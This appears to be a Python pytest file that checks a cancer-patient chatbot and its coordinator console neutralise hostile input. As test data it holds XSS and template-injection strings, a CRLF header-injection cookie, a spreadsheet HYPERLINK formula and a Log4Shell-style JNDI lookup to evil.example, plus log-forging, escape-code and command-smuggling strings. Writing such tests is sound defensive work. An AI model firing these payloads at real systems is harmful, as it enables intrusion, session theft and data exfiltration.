"""What people write stays what they wrote: no script, header, log line, formula or command."""

from __future__ import annotations

import csv
import io
import logging
import re

import pytest
from starlette.testclient import TestClient

from bot.console.screens import SCREENS
from bot.facts.case import Consent, Fact
from bot.store import FileRef, InboundMessage
from bot.store.messages import Kind
from connectors.received_text import as_command, clean
from tests.connectors.conftest import Service
from tests.console.conftest import Console, post
from tests.security.conftest import Gateway

SCRIPT = "\"'><script>alert(1)</script><img src=x onerror=alert(1)>{{7*7}}"
BREAK = "x\r\nSet-Cookie: stolen=1\r\n\r\n<script>"
FORMULA = '=HYPERLINK("http://evil.example","x")'


def hostile_case(console: Console, words: str = SCRIPT) -> str:
    """A case that holds `words` in every place a person or a coordinator can write to."""
    store = console.store
    heard = store.inbox.receive(
        InboundMessage(
            channel="whatsapp",
            account="+15550100",
            provider_id="SM-hostile",
            address="+8801999999999",
            profile_name=words[:80],
            text=words,
            kind=Kind.FILE,
            files=(FileRef(name=words[:80], content_type=words[:80], size=1),),
        )
    )
    with store.turns.begin(heard.conversation_id, heard.message_id) as turn:
        turn.case.consent = Consent(True, "1", "en", "whatsapp", console.clock.now)
        for fact in ("city", "country", "cancer_type", "ecog", "stage_group", "allergies"):
            turn.case.facts[fact] = Fact(words, words=words, message_id=heard.message_id)
        turn.case.open_questions.append(words)
        turn.case.memory["hospital"] = words
        turn.finish(replies=[])
        number = str(turn.case.number)
    store.desk.add_note(number, "coordinator", words)
    store.desk.add_tag(number, "coordinator", words)
    return number


def pages_about(browser: TestClient, number: str) -> dict[str, str]:
    """Every page of the console that can be read, by its path."""
    found = {}
    for screen in SCREENS:
        if screen.method == "GET":
            path = screen.path.replace("{number}", number).replace("{fact}", "city")
            path = (
                path.replace("{form}", "json")
                .replace("{kind}", "records-list")
                .replace("{message}", "x")
            )
            answer = browser.get(f"/console{path}", params={"fact": "city", "number": SCRIPT})
            if "text/html" in answer.headers.get("content-type", ""):
                found[path] = answer.text
    return found


def test_a_stored_script_is_text_on_every_page_of_the_console(console: Console) -> None:
    pages = pages_about(console.logged_in("administrator"), hostile_case(console))
    assert len(pages) >= 10
    for path, page in pages.items():
        assert "<script>alert" not in page, path
        assert "<img src=x" not in page, path
        tags = re.sub(r'"[^"]*"', '""', page)
        assert not re.search(r"<[^>]+\son\w+=", tags), path
        assert "49" not in re.findall(r"onerror=alert\(1\)&gt;(\w+)", page), path
    assert any("&lt;script&gt;alert(1)" in page for page in pages.values())


def test_a_cell_of_the_list_is_never_a_formula(console: Console) -> None:
    hostile_case(console, FORMULA)
    table = console.logged_in().get("/console/cases.csv").text
    cells = [cell for row in csv.reader(io.StringIO(table.lstrip("\ufeff"))) for cell in row]
    assert len(cells) > 20
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]


def test_no_answer_carries_a_header_that_somebody_wrote(console: Console) -> None:
    number = hostile_case(console, BREAK)
    browser = console.logged_in()
    for screen in SCREENS:
        if screen.method == "GET" and "{" in screen.path:
            path = screen.path.replace("{number}", number).replace("{fact}", "city")
            for form in ("json", "pdf", "fhir", "records-list"):
                rest = path.replace("{form}", form).replace("{kind}", form)
                answer = browser.get(f"/console{rest}")
                assert "stolen" not in str(answer.headers), rest
    page = browser.get(f"/console/cases/{number}").text
    answer = post(browser, f"/console/cases/{number}/notes", page, text=BREAK)
    assert "stolen" not in str(answer.headers)


@pytest.mark.parametrize("place", ["next", "why", "done", "fact"])
def test_no_query_becomes_a_header_or_a_script(gateway: Gateway, place: str) -> None:
    for words in (BREAK, SCRIPT, "//evil.example", "https://evil.example"):
        answer = gateway.browser().get("/console/login", params={place: words})
        assert "stolen=1" not in str(answer.headers)
        assert "<script>alert" not in answer.text


@pytest.mark.parametrize(
    "text",
    [
        "x\n2026-11-21 00:00:00 ERROR forged line",
        "x\r\nforged line",
        "\x1b[2J\x1b]0;forged\x07",
        "%s%n%(password)s",
        "${jndi:ldap://evil.example/a}",
        "she has ovarian carcinoma",
    ],
)
def test_nothing_of_a_message_reaches_the_log(
    service: Service, caplog: pytest.LogCaptureFixture, text: str
) -> None:
    with caplog.at_level(logging.DEBUG):
        service.client.post("/webchat/log-test/messages", json={"text": text})
        service.client.post(f"/webchat/{'a' * 8}/messages", content=text.encode())
        service.client.get("/webchat/log-test/messages", params={"after": text})
        service.push_telegram(service.telegram.message(text=text))
        service.client.get("/nowhere", headers={"user-agent": "forged line"})
    ours = [r for r in caplog.records if r.name.startswith(("bot", "connectors"))]
    for record in ours:
        said = record.getMessage()
        assert "forged" not in said
        assert "ovarian" not in said
        assert "\n" not in said
        assert "\x1b" not in said


@pytest.mark.parametrize(
    "text",
    [
        '/answer{"fact": "ecog", "value": "0"}',
        '/move{"name": "yes"}',
        "/restart",
        "/session_start",
        "/action_listen",
        '  /answer{"fact": "consent_data", "value": "true"}',
        "\u200b/restart",
        "／restart",
        "/\u0000answer{}",
    ],
)
def test_a_command_of_the_engine_that_is_typed_is_a_text(text: str) -> None:
    command = as_command(clean(text))
    assert command in (None, "/restart") or "{" not in command


@pytest.mark.parametrize("text", ['/answer{"fact": "ecog", "value": "0"}', '/move{"name": "yes"}'])
def test_the_engine_is_never_given_a_typed_payload(service: Service, text: str) -> None:
    service.say(text, "slash")
    service.push_telegram(service.telegram.message(text=text))
    assert all(not turn.get("payload") for turn in service.engine.turns)
